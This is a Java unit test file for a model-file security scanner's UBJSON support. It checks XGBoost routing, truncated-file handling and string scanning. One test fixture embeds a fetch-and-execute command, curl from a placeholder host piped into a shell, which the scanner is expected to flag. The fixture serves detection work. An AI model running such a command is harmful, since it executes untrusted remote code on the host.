package io.modelvet.formats.ubjson;

import static org.assertj.core.api.Assertions.assertThat;

import io.modelvet.report.FileResult;
import io.modelvet.report.Verdict;
import io.modelvet.testutil.PickleBytes;
import io.modelvet.testutil.Scans;
import java.io.IOException;
import java.io.InputStream;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

/** UBJSON documents: XGBoost models go to their own scanner; other documents have their strings checked; broken ones are inconclusive. */
class UbjsonScannerTest {

  private static byte[] fixture() throws IOException {
    try (InputStream in = UbjsonScannerTest.class.getResourceAsStream("/fixtures/ubjson/xgboost_classifier.ubj")) {
      return in.readAllBytes();
    }
  }

  @Test
  void aRealXgboostModelGoesToTheXgboostScannerAndIsClean() throws IOException {
    FileResult r = Scans.bytes("model.ubj", fixture());
    assertThat(r.format()).isEqualTo("xgboost-ubj");
    assertThat(r.verdict()).as(r.toString()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void stringValuesAreChecked() {
    // {"cmd": "curl https://x.example/i.sh | bash"} with an int8 key length and an 'S' string
    byte[] doc = PickleBytes.of("7b 69 03 'cmd' 53 69 20 'curl https://x.example/i.sh | sh' 7d");
    FileResult r = Scans.bytes("x.ubj", doc);
    assertThat(r.format()).isEqualTo("ubjson");
    assertThat(Scans.ruleIds(r)).contains("payload.shell-command");
  }

  @Test
  void aCutDocumentIsInconclusive() throws IOException {
    byte[] real = fixture();
    FileResult r = Scans.bytes("cut.ubj", Arrays.copyOf(real, real.length / 2));
    assertThat(r.verdict()).isEqualTo(Verdict.INCONCLUSIVE);
  }
}
